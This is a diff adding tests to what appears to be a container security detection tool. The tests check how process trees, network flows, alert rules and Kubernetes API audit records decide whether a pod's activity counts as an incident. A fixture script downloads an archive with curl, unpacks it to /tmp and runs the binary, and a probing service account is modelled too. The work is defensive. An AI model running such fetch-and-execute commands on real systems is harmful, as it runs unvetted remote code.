@@ -116,3 +116,57 @@ def test_sessions_from_the_runtime_and_from_the_audit_log():
     edge = pl.DataFrame({"src": ["proc:x"], "dst": ["proc:zsh"], "kind": ["api"]})
     assert uncaused(p, edge, s) == set()
     assert uncaused(p, edge.clear(), s) == {"zsh", "nc", "curl"}
+
+
+# -- a bare pod running the script its spec declares (a Helm hook without the Job label) -------------------
+from kernelsec_nb.findings._declared import declared_steps, probed_pods, with_declared  # noqa: E402
+
+SCRIPT = "-c apk add curl && curl -fsSL https://example.org/t.tgz | tar xz -C /tmp && /tmp/tool up"
+
+
+def _hook(script=SCRIPT):
+    procs = [proc("shim", None, None, "/usr/local/bin/containerd-shim-runc-v2", t=0, seen="parent"),
+             proc("app", "shim", "web-1", "/srv/app", "--port 80", t=10 * S, seen="event"),
+             proc("sh", "shim", "hook", "/bin/sh", script, t=T0),
+             proc("apk", "sh", "hook", "/sbin/apk", "add curl", t=T0 + 10 * MS),
+             proc("curl", "sh", "hook", "/usr/bin/curl", "-fsSL https://example.org/t.tgz", t=T0 + 2 * S),
+             proc("tar", "sh", "hook", "/bin/tar", "xz -C /tmp", t=T0 + 2 * S + MS),
+             proc("tool", "sh", "hook", "/tmp/tool", "up", t=T0 + 4 * S)]
+    flows = [flow("f1", T0 + 2 * S + 5 * MS, "curl", ("a", "hook"), None, 443, dst_ip="203.0.113.9")]
+    hits = _hits([
+        {"rule_id": "drop", "title": "Drop and execute new binary in container", "level": "critical",
+         "techniques": ["T1059"], "exec_id": "tool", "event_id": "h1", "time_ns": T0 + 4 * S},
+        {"rule_id": "pkg", "title": "Launch Package Management Process in Container", "level": "high",
+         "techniques": ["T1505"], "exec_id": "apk", "event_id": "h2", "time_ns": T0 + 10 * MS}])
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": T0 + 3 * S, "node": "n1", "namespace": "a",
+           "pod": "hook", "workload": "hook", "exec_id": "tar", "function_name": "security_file_permission",
+           "file_path": "/tmp/tool", "daddr": None, "dport": None,
+           "hook_args": '[{"file_arg":{"path":"/tmp/tool","permission":"-rwxr-xr-x"}},{"int_arg":2}]'}]
+    return frames(procs, flows, kp, hits)
+
+
+def test_a_bare_pod_running_the_script_its_spec_declares_is_no_incident():
+    f = find_in(**_hook())
+    assert f.incidents == []
+    assert any("declares" in w for x in f.leads for w in x.why)
+
+
+def test_the_declared_script_credits_only_the_steps_it_names():
+    fr = _hook(script="-c python3 /srv/app.py")
+    p = fr["procs"]
+    assert declared_steps(p)["exec_id"].to_list() == ["sh"]      # apk, curl, tar, tool: not in this script
+    assert find_in(**fr).incidents                               # what it did not name still raises
+
+
+def test_a_pod_created_by_a_credential_that_probed_its_rights_gets_no_credit():
+    api = pl.DataFrame({
+        "verb": ["create", "create"], "resource": ["selfsubjectrulesreviews", "pods"], "subresource": [None, None],
+        "user": ["system:serviceaccount:ci:deployer"] * 2, "src_ip": ["198.51.100.7"] * 2,
+        "namespace": [None, "a"], "name": [None, None], "created_name": [None, "hook"],
+        "time_ns": [T0 - 60 * S, T0 - 5 * S], "code": [201, 201], "event_id": ["a1", "a2"]},
+        schema_overrides={"subresource": pl.String, "name": pl.String})
+    assert probed_pods(api).rows() == [("a", "hook")]
+    p = _hook()["procs"]
+    rt = pl.DataFrame({"exec_id": p["exec_id"], "routine": [0.0] * p.height, "reason": [""] * p.height})
+    assert with_declared(rt, p)["routine"].to_list() == [0.0, 0.0, 0.6, 0.6, 0.6, 0.6, 0.6]
+    assert with_declared(rt, p, api)["routine"].to_list() == [0.0] * 7
